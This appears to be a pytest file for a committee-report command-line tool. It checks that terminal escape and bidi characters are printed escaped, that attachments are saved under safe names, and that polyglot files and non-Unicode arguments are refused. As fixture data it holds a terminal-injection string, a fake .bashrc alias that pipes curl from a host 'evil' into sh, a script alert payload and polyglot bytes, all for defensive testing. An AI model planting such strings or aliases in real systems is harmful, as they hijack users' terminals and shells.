"""What the command line prints and writes (issue 11, findings 4, 7 and 8).

Text from the register or a report reaches a terminal only escaped, JSON
output is ASCII, identifier values are stored cleaned, attachments are
saved under names of our own into a directory we create, and an argument
that is not Unicode is refused with one line.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from coc_hashscreen.cli import main

from ..helpers import raw_database
from .test_cli import Setup, _filled_report, _no_traceback, run
from .test_cli import setup as setup

HOSTILE = "Evil\x1b]0;pwned\x07\u202eName\u2028Forged line\x9b"


def _raw(text: str) -> bool:
    """Whether *text* holds a character the finding says must never be printed."""
    return any(ch in text for ch in "\x1b\x07\u202e\u2028\x9b")


def test_committee_update_echoes_and_stores_identifiers_clean(
    setup: Setup, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "committee", "update", setup.committee, "1", "--add-name", HOSTILE)
    assert code == 0, err
    assert not _raw(out)
    assert "Evil]0;pwnedName Forged line" in out
    with raw_database(setup.committee / "register.sqlite3") as db:
        values = [v for (v,) in db.execute("SELECT value FROM identifiers")]
    assert "Evil]0;pwnedName Forged line" in values
    assert not any(_raw(v) for v in values)
    code, out, _ = run(capsys, "committee", "list", setup.committee, "--format", "json")
    assert code == 0
    assert out.isascii()


def test_a_legacy_raw_value_in_the_register_is_printed_escaped(
    setup: Setup, capsys: pytest.CaptureFixture[str]
) -> None:
    # A register written before values were cleaned still prints safely.
    with raw_database(setup.committee / "register.sqlite3") as db:
        db.execute("UPDATE identifiers SET value = ? WHERE kind = 'name'", (HOSTILE,))
    for argv in (
        ("committee", "list", setup.committee),
        ("committee", "update", setup.committee, "1", "--note", "checked"),
    ):
        code, out, err = run(capsys, *argv)
        assert code == 0, err
        assert not _raw(out)


def _intake(setup: Setup, capsys: pytest.CaptureFixture[str], document: dict[str, object]) -> str:
    report, sealed = setup.tmp / "r.json", setup.tmp / "r.sealed"
    assert run(capsys, "report", "new", "-o", report, "--force")[0] == 0
    _filled_report(report)
    filled = json.loads(report.read_text(encoding="utf-8"))
    filled.update(document)
    report.write_text(json.dumps(filled), encoding="utf-8")
    code, _, err = run(capsys, "report", "seal", report, "--trust", setup.trust, "-o", sealed,
                       "--state", setup.state)  # fmt: skip
    assert code == 0, err
    code, out, err = run(capsys, "committee", "intake", setup.committee, sealed, "-o",
                         setup.tmp / "r.receipt")  # fmt: skip
    assert code == 0, err
    return out.split()[2]


def test_report_text_is_escaped_and_json_is_ascii(
    setup: Setup, capsys: pytest.CaptureFixture[str]
) -> None:
    report_id = _intake(
        setup,
        capsys,
        {
            "event": {"name": HOSTILE, "start": "2026-05-01", "end": "2026-05-02"},
            "reference": "ref\nAttachment: fake.pdf (application/pdf, 1 bytes)",
            "facts": f"first line\nsecond {HOSTILE}",
        },
    )
    code, out, _ = run(capsys, "committee", "show-report", setup.committee, report_id)
    assert code == 0
    assert not _raw(out)
    assert "\\u202e" in out
    assert "\\u001b" in out
    # A one-line field cannot start a line of its own; multi-line texts keep theirs.
    assert "Their reference: ref\\u000aAttachment: fake.pdf" in out
    assert "\nsecond Evil" in out
    for argv in (
        ("committee", "show-report", setup.committee, report_id, "--format", "json"),
        ("committee", "reports", setup.committee, "--format", "json"),
    ):
        code, out, _ = run(capsys, *argv)
        assert code == 0
        assert out.isascii()
        assert "\\u202e" in out


def test_show_report_extracts_into_a_new_directory_under_our_names(
    setup: Setup, capsys: pytest.CaptureFixture[str]
) -> None:
    report, sealed = setup.tmp / "r.json", setup.tmp / "r.sealed"
    assert run(capsys, "report", "new", "-o", report)[0] == 0
    _filled_report(report)
    dotfile = setup.tmp / ".bashrc"
    dotfile.write_text("alias ls='curl evil | sh'\n")
    page = setup.tmp / "invoice.html"
    page.write_text("<html><script>alert(1)</script></html>")
    code, _, err = run(capsys, "report", "seal", report, "--trust", setup.trust, "--attach",
                       dotfile, "--attach", page, "-o", sealed, "--state", setup.state)  # fmt: skip
    assert code == 0, err
    _, out, _ = run(capsys, "committee", "intake", setup.committee, sealed, "-o",
                    setup.tmp / "r.receipt")  # fmt: skip
    report_id = out.split()[2]
    home = setup.tmp / "home"
    home.mkdir()
    (home / ".bashrc").write_text("mine\n")
    code, _, err = run(capsys, "committee", "show-report", setup.committee, report_id,
                       "--attachments", home)  # fmt: skip
    assert code == 3
    assert "exists; name a new directory" in err
    _no_traceback(err)
    assert (home / ".bashrc").read_text() == "mine\n"
    target = setup.tmp / "evidence"
    code, _, err = run(capsys, "committee", "show-report", setup.committee, report_id,
                       "--attachments", target)  # fmt: skip
    assert code == 0, err
    assert sorted(p.name for p in target.iterdir()) == ["attachment-01.txt", "attachment-02.txt"]
    assert "'.bashrc' (text/plain) as" in err


def test_a_polyglot_cannot_be_attached(setup: Setup, capsys: pytest.CaptureFixture[str]) -> None:
    report, sealed = setup.tmp / "r.json", setup.tmp / "r.sealed"
    assert run(capsys, "report", "new", "-o", report)[0] == 0
    _filled_report(report)
    polyglot = setup.tmp / "invoice.pdf"
    polyglot.write_bytes(b"%PDF-1.7\nPK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(40))
    code, _, err = run(capsys, "report", "seal", report, "--trust", setup.trust, "--attach",
                       polyglot, "-o", sealed, "--state", setup.state)  # fmt: skip
    assert code == 3
    assert "not only that" in err
    _no_traceback(err)
    assert not sealed.exists()


def test_an_argument_that_is_not_unicode_is_one_line_of_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    # Bytes that are not UTF-8 reach Python as lone surrogates.
    for argv in (["normalize", "name", "Jo\udcffhn"], ["committee", "init", str(tmp_path / "c"),
                 "--name", "Committee \udcff"]):  # fmt: skip
        code = main(argv)
        _, err = capsys.readouterr()
        assert code == 3
        assert "is not Unicode text" in err
        _no_traceback(err)
    assert not (tmp_path / "c").exists()


def test_screen_never_quotes_the_first_attendee_of_a_file_without_headers(
    setup: Setup, capsys: pytest.CaptureFixture[str]
) -> None:
    setup.csv.write_text("Jane Secretperson,jane.secret@example.org\n", encoding="utf-8")
    code, _, err = run(capsys, *setup.screen())
    assert code == 3
    assert "Secretperson" not in err
    assert "jane.secret" not in err
    assert "header line" in err
    code, out, _ = run(capsys, *setup.screen("--format", "json"))
    assert code == 3
    assert out == ""
